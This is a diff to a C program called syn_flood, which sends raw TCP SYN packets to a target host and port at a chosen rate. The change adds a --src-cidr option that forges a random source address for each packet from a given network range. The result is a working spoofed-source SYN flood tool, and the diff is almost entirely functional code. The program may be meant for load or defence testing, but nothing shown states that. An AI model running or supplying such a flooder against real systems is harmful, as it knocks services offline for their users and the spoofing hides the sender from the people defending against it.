@@ -6,9 +6,15 @@
  * target answers them unless something drops them). --pps paces the sends
  * (0 = as fast as possible); --seconds bounds the run whatever the count.
  *
- *   syn_flood --src A --dst B --dport P [--count N] [--pps R] [--seconds S]
+ *   syn_flood --src A|--src-cidr NET/LEN --dst B --dport P [--count N] [--pps R]
+ *             [--seconds S]
  *
- * Prints "sent=N failed=M" (M: sends the kernel refused, e.g. ENOBUFS).
+ * --src-cidr sends each SYN from a random address inside NET/LEN instead (a
+ * spoofed-source flood; the network and broadcast addresses are skipped when
+ * LEN < 31).
+ *
+ * Prints "sent=N failed=M elapsed_ms=T" (M: sends the kernel refused, e.g.
+ * ENOBUFS; T: from the first send to the last).
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -31,8 +37,8 @@ struct syn_packet {
 
 static void usage(void)
 {
-	fprintf(stderr, "usage: syn_flood --src A --dst B --dport P [--count N] [--pps R]"
-			" [--seconds S]\n");
+	fprintf(stderr, "usage: syn_flood --src A|--src-cidr NET/LEN --dst B --dport P"
+			" [--count N] [--pps R] [--seconds S]\n");
 	exit(2);
 }
 
@@ -78,6 +84,42 @@ static void fill_checksums(struct syn_packet *pk)
 	pk->tcp.check = csum_fold(&pk->tcp, sizeof(pk->tcp), pseudo);
 }
 
+/* "100.80.0.0/16" -> first host address and host count (host order); 0 if bad. */
+static int parse_cidr(const char *arg, uint32_t *first, uint32_t *hosts)
+{
+	char buf[INET_ADDRSTRLEN + 4];
+	const char *slash = strchr(arg, '/');
+	struct in_addr a;
+	unsigned long len;
+	uint32_t mask, net;
+
+	if (!slash || (size_t)(slash - arg) >= INET_ADDRSTRLEN)
+		return 0;
+	memcpy(buf, arg, (size_t)(slash - arg));
+	buf[slash - arg] = '\0';
+	if (inet_pton(AF_INET, buf, &a) != 1)
+		return 0;
+	len = parse_ulong("prefix length", slash + 1, 32);
+	mask = len ? ~0U << (32 - len) : 0;
+	net = ntohl(a.s_addr) & mask;
+	if (len >= 31) {
+		*first = net;
+		*hosts = (uint32_t)(~mask + 1ULL);
+	} else {
+		*first = net + 1;
+		*hosts = ~mask - 1;
+	}
+	return 1;
+}
+
+/* random() gives 31 bits: two draws cover any host count. */
+static uint32_t random_below(uint32_t n)
+{
+	uint64_t r = ((uint64_t)random() << 31) | (uint64_t)random();
+
+	return (uint32_t)(r % n);
+}
+
 static uint64_t mono_ns(void)
 {
 	struct timespec ts;
@@ -99,6 +141,7 @@ int main(int argc, char **argv)
 {
 	static const struct option opts[] = {
 		{ "src", required_argument, NULL, 's' },
+		{ "src-cidr", required_argument, NULL, 'C' },
 		{ "dst", required_argument, NULL, 'd' },
 		{ "dport", required_argument, NULL, 'p' },
 		{ "count", required_argument, NULL, 'c' },
@@ -110,13 +153,21 @@ int main(int argc, char **argv)
 	struct syn_packet pk;
 	struct in_addr src = { 0 };
 	unsigned long count = 1000, pps = 0, seconds = 10, dport = 0, sent = 0, failed = 0;
-	uint64_t start, deadline;
+	uint64_t start, deadline, last = 0;
+	uint32_t src_first = 0, src_hosts = 0;
 	int fd, c, have_src = 0, have_dst = 0;
 
 	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
 		switch (c) {
 		case 's':
 			have_src = inet_pton(AF_INET, optarg, &src) == 1;
+			break;
+		case 'C':
+			have_src = parse_cidr(optarg, &src_first, &src_hosts);
+			if (!have_src) {
+				fprintf(stderr, "syn_flood: bad CIDR '%s'\n", optarg);
+				exit(2);
+			}
 			break;
 		case 'd':
 			have_dst = inet_pton(AF_INET, optarg, &dst.sin_addr) == 1;
@@ -172,14 +223,18 @@ int main(int argc, char **argv)
 		pk.ip.id = htons((uint16_t)random());
 		pk.tcp.source = htons((uint16_t)(1024 + random() % (65536 - 1024)));
 		pk.tcp.seq = htonl((uint32_t)random());
+		if (src_hosts)
+			pk.ip.saddr = htonl(src_first + random_below(src_hosts));
 		fill_checksums(&pk);
 		if (sendto(fd, &pk, sizeof(pk), 0, (struct sockaddr *)&dst, sizeof(dst)) ==
 		    (ssize_t)sizeof(pk))
 			sent++;
 		else
 			failed++;
+		last = mono_ns();
 	}
 	close(fd);
-	printf("sent=%lu failed=%lu\n", sent, failed);
+	printf("sent=%lu failed=%lu elapsed_ms=%llu\n", sent, failed,
+	       (unsigned long long)(last > start ? (last - start) / 1000000ULL : 0));
 	return 0;
 }
